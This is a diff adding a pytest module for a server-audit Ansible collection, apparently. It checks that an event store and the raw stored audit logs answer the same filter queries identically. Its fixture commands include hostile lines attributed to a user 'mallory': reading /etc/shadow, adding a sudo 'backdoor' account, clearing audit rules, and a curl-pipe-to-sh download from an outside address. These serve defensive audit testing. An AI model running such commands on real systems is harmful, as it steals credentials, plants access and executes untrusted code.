@@ -1,0 +1,147 @@
+"""The same questions asked of the event store, filled live by the processor, and of the
+stored files, read as audit_report reads them: the same events, field for field."""
+
+from __future__ import annotations
+
+import pytest
+
+from ansible_collections.whotouched.server_audit.plugins.module_utils._events.report import (
+    EventFilter,
+    build_report,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils._processor.processor import (
+    Processor,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils._store.base import (
+    Ruleset,
+)
+from ansible_collections.whotouched.server_audit.plugins.module_utils._store.sqlite import (
+    SqliteStore,
+)
+from tests.support.audit_records import evtsys, exec_records, file_records, stored
+from tests.support.event_store import processor_config
+
+T0 = 1700000000
+HEALTH = ("type=USER msg=audit(%d.000:%d): pid=726 uid=0 auid=4294967295 ses=4294967295 "
+          "msg='op=whotouched-audit-health lost=%d lost_total=%d since=1699999700.000 "
+          "backlog=0 backlog_limit=8192 backlog_wait_time=60000 logging_suspended=no "
+          "plugin_overflow=no res=success'")
+
+# (host, address, login, uid, session, argv, key): a day on three servers
+COMMANDS = [
+    ("web01", "192.0.2.10", "alice", 1000, 3, ["ls", "-l", "/var/www"], "exec"),
+    ("web01", "192.0.2.10", "alice", 1000, 3, ["sudo", "systemctl", "restart", "nginx"], "exec"),
+    ("web01", "192.0.2.10", "mallory", 1001, 7, ["cat", "/etc/shadow"], "exec"),
+    ("web01", "192.0.2.10", "mallory", 1001, 7, ["useradd", "-G", "sudo", "backdoor"],
+     "exec\x01identity"),
+    ("web02", "192.0.2.11", "alice", 1000, 3, ["tail", "-f", "/var/log/syslog"], "exec"),
+    ("db01", "192.0.2.20", "bob", 1002, 12, ["psql", "-c", "SELECT 1"], "exec"),
+    ("db01", "192.0.2.20", "bob", 1002, 12, ["auditctl", "-D"], "exec"),
+    ("db01", "192.0.2.20", "mallory", 1001, 13,
+     ["sh", "-c", "curl -s http://203.0.113.9/x | sh", "\x1b[2J\u202eGRÖSSE"], "exec"),
+    ("web02", "192.0.2.11", "bob", 1002, 5, ["crontab", "-l"], None),
+]
+
+
+def log_lines():
+    """The stored lines of a day on three servers, one file's worth per sender."""
+    files = {}
+    for serial, (host, address, login, uid, session, argv, key) in enumerate(COMMANDS, 1):
+        lines = exec_records(argv, serial=serial, epoch="%d.%03d" % (T0 + serial * 600, serial),
+                             auid=uid, login_name=login, ses=session, key=key)
+        files.setdefault(address, []).extend(stored(lines, host=host, address=address))
+    files["192.0.2.10"] += stored(file_records("/etc/sudoers", serial=90,
+                                               epoch="%d.500" % (T0 + 7000)),
+                                  host="web01", address="192.0.2.10")
+    files["192.0.2.20"] += stored([HEALTH % (T0 + 8000, 91, 0, 3), HEALTH % (T0 + 8300, 92, 5, 8)],
+                                  host="db01", address="192.0.2.20")
+    files["192.0.2.20"] += ["Nov 14 22:13:20 db01 192.0.2.20 type=SYSCALL garbage \x00\x1b",
+                            "not a line at all"]
+    files["192.0.2.30"] = [
+        evtsys(4720, "A user account was created. Subject: Account Name: dave New Account: "
+                     "Account Name: backdoor", address="192.0.2.30"),
+        evtsys(4625, "An account failed to log on. Account For Which Logon Failed: Account "
+                     "Name: alice Source Network Address: 198.51.100.7", success=False,
+               address="192.0.2.30")]
+    return files
+
+
+@pytest.fixture(scope="module")
+def sources(tmp_path_factory):
+    """The stored files, and the store the processor filled from the same lines."""
+    work = tmp_path_factory.mktemp("questions")
+    paths = []
+    processor = Processor(processor_config(work), workers=[], log=lambda _message: None)
+    for address, lines in sorted(log_lines().items()):
+        path = work / "remote" / address / ("windows.log" if address == "192.0.2.30"
+                                            else "audit.log")
+        path.parent.mkdir(parents=True)
+        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+        paths.append(str(path))
+        for line in lines:
+            assert processor.handle_line(line)
+    processor.close()
+    store = SqliteStore(str(work / "events.db"), readonly=True)
+    yield paths, store
+    store.close()
+
+
+QUESTIONS = [
+    {},
+    {"since": T0 + 1800, "until": T0 + 4200},
+    {"since": T0 + 10 ** 6},
+    {"host": "web01"},
+    {"host": "web*"},
+    {"host": "192.0.2.2?"},
+    {"host": "*0[12]"},
+    {"host": "[!w]*"},
+    {"host": "DC01"},
+    {"user": "mallory"},
+    {"user": "ali*"},
+    {"user": "root"},
+    {"user": "backdoor"},
+    {"min_level": "medium"},
+    {"min_level": "high"},
+    {"min_level": "critical", "host": "db*"},
+    {"key": "exec"},
+    {"key": "identity"},
+    {"key": "passwd"},
+    {"search": "shadow"},
+    {"search": "SHADOW"},
+    {"search": "grösse"},
+    {"search": "| sh"},
+    {"search": "/e"},
+    {"search": "c"},
+    {"search": "alice"},
+    {"session": 7, "host": "web01"},
+    {"session": 3},
+    {"user": "alice", "since": T0, "until": T0 + 3600, "min_level": "low"},
+]
+
+
+@pytest.mark.parametrize("question", QUESTIONS, ids=[repr(question) for question in QUESTIONS])
+def test_the_store_and_the_files_give_the_same_events(sources, question):
+    paths, store = sources
+    rules = Ruleset.load()
+    from_files, file_counts = build_report(paths, rules.rules, EventFilter(**question), limit=0)
+    from_store, store_counts = store.find(EventFilter(**question), rules, 0)
+    assert from_store == from_files
+    assert store_counts["matched"] == file_counts["matched"] == len(from_files)
+
+
+def test_the_questions_are_not_all_answered_alike(sources):
+    """The table above asks questions whose answers differ (it could not pass by accident)."""
+    paths, _store = sources
+    rules = Ruleset.load()
+    answers = {tuple(event["serial"] or 0 for event in build_report(
+        paths, rules.rules, EventFilter(**question), limit=0)[0]) for question in QUESTIONS}
+    assert len(answers) > 15
+
+
+def test_with_a_limit_the_store_gives_the_newest_events(sources):
+    _paths, store = sources
+    events, counts = store.find(EventFilter(), Ruleset.load(), 3)
+    everything, _counts = store.find(EventFilter(), Ruleset.load(), 0)
+    assert events == sorted(everything, key=lambda event: event["epoch"] or 0)[-3:]
+    # the heartbeat that said nothing was lost (the other report is a loss event)
+    assert counts == {"matched": len(everything), "truncated": True, "health_reports": 1}
